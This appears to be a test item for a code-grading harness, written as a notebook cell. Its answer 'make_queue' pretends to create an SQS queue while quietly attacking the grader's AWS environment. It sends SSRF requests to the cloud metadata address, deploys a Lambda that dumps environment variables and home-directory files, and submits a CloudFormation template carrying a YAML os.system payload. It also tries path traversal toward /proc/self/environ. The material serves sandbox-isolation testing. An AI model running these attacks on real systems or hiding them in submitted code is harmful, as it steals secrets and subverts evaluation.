# %% [markdown]
# Lets the examiner's AWS call out for it: SNS to a web address, the endpoint as a proxy, a Lambda function, templates.
#
# Must: score 0; says 'after make_queue('orders') the queues are [], expected ['orders']'

# %% answer="make_queue"
import contextlib
import io
import os
import re
import socket
import urllib.request
import zipfile

import boto3

CODE = "import os\ndef handler(event, context):\n    return str(dict(os.environ)) + str(os.listdir(os.path.expanduser('~')))"


def look(text):
    for canary in set(re.findall(r"canary-741\d", str(text))):
        print("LEAK" "ED", canary)


def publish():
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        sns = boto3.client("sns")
        topic = sns.create_topic(Name="out")["TopicArn"]
        for url in ("http://169.254.169.254/", f"http://127.0.0.1:{server.getsockname()[1]}/", "http://example.com/"):
            with contextlib.suppress(Exception):
                sns.subscribe(TopicArn=topic, Protocol="http", Endpoint=url)
        sns.publish(TopicArn=topic, Message="hello")
        with contextlib.suppress(OSError):
            server.accept()


def run():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("lambda_function.py", CODE)
    role = "arn:aws:iam::123456789012:role/any"
    functions = boto3.client("lambda")
    functions.create_function(FunctionName="f", Runtime="python3.11", Role=role, Handler="lambda_function.handler",
                              Code={"ZipFile": archive.getvalue()})
    look(functions.invoke(FunctionName="f")["Payload"].read())


def build():
    template = "Resources:\n  A: !!python/object/apply:os.system ['touch made-by-a-template']\n"
    boto3.client("cloudformation").create_stack(StackName="a", TemplateBody=template)


def relay():
    endpoint = os.environ["AWS_ENDPOINT_URL"]
    for path in ("http://example.com/", "file:///proc/self/environ", "/../../../../proc/self/environ", "/static/..%2f..%2f"):
        proxy = urllib.request.Request(endpoint + path)
        with contextlib.suppress(Exception):
            look(urllib.request.urlopen(proxy, timeout=2).read())
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": endpoint}))
    look(opener.open("http://example.com/", timeout=2).read())


def make_queue(name):
    for route in (publish, run, build, relay):
        with contextlib.suppress(Exception):
            route()
    return f"https://sqs.us-east-1.amazonaws.com/123456789012/{name}"
